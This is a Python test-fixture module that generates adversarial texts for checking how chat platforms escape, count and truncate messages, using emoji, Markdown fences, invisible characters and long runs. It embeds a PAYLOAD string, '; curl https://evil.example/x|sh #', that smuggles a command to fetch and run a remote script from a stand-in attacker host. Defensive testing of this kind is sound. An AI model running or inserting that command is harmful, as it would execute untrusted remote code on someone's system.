"""Texts that platforms escape, count and cut in their own ways, and the way back from escapes.

The way back is written anew here: what a product's own code takes back proves nothing.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from random import Random

PAYLOAD = "; curl https://evil.example/x|sh #"
_SEEDS = 30
_PIECES = (
    "```", "````", "`", "``", "```a", "~~~", "😀", "👩‍💻", "🇩🇪", "e\u0301", "日本", "שלום",
    "\u202e", "\u200b", "\u200d", "\ufe0f", "\r\n", "\n", "\n\n", "\n" * 7, " " * 40, "\t",
    "\x1b[31m",
    "\u0441at", "<@123456789012345678>", "@everyone", "<!channel>", "&lt;", "<b>", "&", "\\", "\\`",
    "⟨U+0041⟩", "⟩", "…", "── command ──\n", "── ⟨payload⟩ ──\n",
    "\n\n── ⟨arguments⟩ ──\n{}", "**", "ls -la /srv", "echo 'x' && ", PAYLOAD,
)  # fmt: skip
_ESCAPE = re.compile(
    r"\n⟨(?P<lines>\d+) × U\+000A⟩\n"  # noqa: RUF001 (as it is shown)
    r"|⟨(?P<count>\d+) × U\+(?P<repeated>[0-9A-F]{4,6})⟩"  # noqa: RUF001 (as above)
    r"|⟨U\+(?P<one>[0-9A-F]{4,6})(?: .)?⟩"
)


def unescaped(text: str) -> str:
    """Return the text as it was before anything in it was written out."""
    return _ESCAPE.sub(_meant, text)


def _meant(found: re.Match[str]) -> str:
    if found["lines"]:
        return "\n" * int(found["lines"])
    if found["count"]:
        return chr(int(found["repeated"], 16)) * int(found["count"])
    return chr(int(found["one"], 16))


def texts() -> Iterator[str]:
    """Return named attacks, texts around every size at which something is cut, and random ones."""
    yield "```a" * 300 + PAYLOAD + "```a" * 300
    yield "😀" * 1500 + PAYLOAD + "😀" * 1500
    for unit in (
        "```a",
        "`",
        "😀",
        "👩‍💻",
        "🇩🇪",
        "e\u0301",
        "日",
        "<@1>",
        "&<",
        "\\",
        "\n",
        "ls\n",
        "\t",
        "\u3000",
        " \t",
        "\n ",
    ):
        yield unit * 400 + PAYLOAD + unit * 400
    yield "\n".join(["x" * 1586, PAYLOAD, "x" * 1587])
    yield "👩‍" * 2000 + PAYLOAD  # joined without an end
    yield "a" + "\u0327\u0301" * 900 + PAYLOAD
    yield (
        "".join(chr(0x4E00 + at % 900) for at in range(3000))
        + "\u200b" * 2100
        + PAYLOAD
        + "é\u200c"
    )
    yield "x" * 1592 + "\n" * 4 + PAYLOAD + "\n\n"
    for size in (1500, 1586, 1592, 1600, 2000, 2800, 6000):
        for more in (-1, 0, 1):
            yield "x" * (size + more - len(PAYLOAD)) + PAYLOAD
    yield "\n".join("ls" for _ in range(31)) + PAYLOAD
    for seed in range(_SEEDS):
        yield "".join(_some(Random(seed)))


def _some(random: Random) -> Iterator[str]:
    for _ in range(random.randrange(1, 30)):
        yield random.choice(_PIECES) * random.choice((1, 1, 1, 2, 3, 20, 60))
